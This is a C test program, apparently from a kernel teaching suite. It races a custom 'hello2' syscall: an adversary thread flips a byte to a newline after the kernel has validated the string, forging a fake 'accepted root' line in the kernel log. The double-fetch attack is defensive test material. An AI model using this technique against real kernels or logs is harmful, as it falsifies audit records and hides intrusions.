/* SPDX-License-Identifier: MIT */
/*
 * race-text [CALLS]: forges a line of the kernel's log.
 *
 * The name is one printable line, and the kernel looks at every byte to see
 * that it is. Behind its back the adversary turns one of them into a line
 * feed.
 */
#include <errno.h>
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char name[] = "beagle_sshd: accepted root from 10.0.0.1";
static struct hello2_in in = { name, sizeof(name) - 1, 7 };
static struct hello2_out out;

static void *adversary(void *unused)
{
	char *gap = strchr(name, '_');

	while (race_goes_on()) {
		*gap = '\n';
		sched_yield();
		*gap = '_';
	}
	return NULL;
}

int main(int argc, char *argv[])
{
	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;

	if (setuid(NOBODY) || race_begin(adversary)) {
		perror("race-text");
		return 2;
	}
	while (calls--) {
		if (syscall(SYS_HELLO2, &in, &out) < 0)
			printf("hello2: %s\n", strerror(errno));
		else
			printf("nr_calls %u\n", out.nr_calls);
	}
	race_end();
	return 0;
}
